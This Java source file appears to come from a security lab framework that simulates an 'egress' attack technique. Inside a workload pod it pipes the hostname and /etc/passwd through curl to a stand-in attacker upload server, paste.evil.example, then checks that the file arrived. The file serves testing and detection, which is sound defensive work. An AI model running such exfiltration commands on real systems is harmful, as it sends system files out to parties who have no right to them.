package dev.vigil.lab.attack;

import com.sun.net.httpserver.HttpServer;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;

/**
 * {@code egress}: exfiltration to the simulated internet from a workload that never goes there —
 * an HTTP POST of {@code /etc/passwd} to {@code paste.evil.example} (an upload server the
 * scenario runs on 203.0.113.66) and an HTTPS GET from {@code updates.example.com}. The effect:
 * the upload server received the file, and the TLS server answered.
 */
final class Egress implements Technique {

    /** Largest upload the paste server keeps. */
    static final int MAX_UPLOAD = 1 << 20;

    @Override
    public void perform(AttackRun run) throws Exception {
        Source from = run.source();
        AttackerHost paste = AttackerHost.named("paste.evil.example");
        Queue<String> uploads = new ConcurrentLinkedQueue<>();
        HttpServer server = paste.http(run, 80);
        server.createContext("/upload", exchange -> {
            try (InputStream in = exchange.getRequestBody()) {
                uploads.add(new String(in.readNBytes(MAX_UPLOAD), StandardCharsets.UTF_8));
            }
            byte[] reply = ("https://paste.evil.example/p/" + uploads.size() + "\n").getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(201, reply.length);
            try (OutputStream out = exchange.getResponseBody()) {
                out.write(reply);
            }
        });
        server.start();
        String curl = run.toolkit().ensure(from, "curl");

        AttackRun.Ran post = run.command(from, "sh", "-c", "cat /etc/hostname /etc/passwd | " + curl
                        + " -s -m 10 -w '" + CurlReply.WRITE_STATUS + "' --data-binary @- http://paste.evil.example/upload")
                .run("upload /etc/passwd to http://paste.evil.example/upload");
        CurlReply posted = CurlReply.of(post);
        run.check(posted.status() == 201, "the upload to paste.evil.example did not get 201: " + post.stdout());
        String received = uploads.stream().findFirst().orElse("");
        run.check(received.contains(from.pod().name()) && received.contains("root:x:0:0"),
                "paste.evil.example did not receive the pod's /etc/passwd (got " + received.length() + " bytes)");
        run.evidence("paste.evil.example (" + paste.ip() + ") received " + received.length() + " bytes from " + from.pod().name()
                + ": its hostname and /etc/passwd");

        AttackRun.Ran get = run.command(from, curl, "-s", "-k", "-m", "10", "-w", CurlReply.WRITE_STATUS, "https://updates.example.com/")
                .run("HTTPS GET https://updates.example.com/");
        CurlReply page = CurlReply.of(get);
        run.check(page.status() == 200 && page.body().contains("SSL-Session"),
                "https://updates.example.com/ did not answer with its session page: " + get.stdout());
        run.evidence("https://updates.example.com/ (" + AttackerHost.named("updates.example.com").ip() + ") answered 200 over TLS");
    }
}
